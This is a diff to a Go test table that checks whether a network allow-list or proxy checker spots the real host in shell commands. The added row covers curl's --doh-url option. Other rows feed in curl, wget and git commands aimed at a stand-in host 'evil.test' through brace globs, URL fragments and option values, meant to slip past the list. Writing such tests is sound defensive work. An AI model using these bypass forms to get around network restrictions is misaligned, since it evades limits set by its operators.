@@ -135,6 +135,7 @@ func TestProxyModeAgreesWithProxy(t *testing.T) {
 		{"curl brace glob reaching off the list", "curl 'https://{allowed,evil}.test/'", host("evil.test")},
 		{"fragment hides the host", "curl 'http://evil.test#@allowed.test/'", host("evil.test")},
 		{"git fetch after an option value", "git fetch --depth 1 git@evil.test:r", host("evil.test")},
+		{"curl DNS over HTTPS elsewhere", "curl --doh-url https://evil.test/dns-query https://allowed.test/", host("evil.test")},
 		{"wget off the list", "wget http://evil.test/x", host("evil.test")},
 		{"git clone off the list", "git clone https://evil.test/r.git", host("evil.test")},
 		{"git scp-like off the list", "git clone git@evil.test:r.git", host("evil.test")},
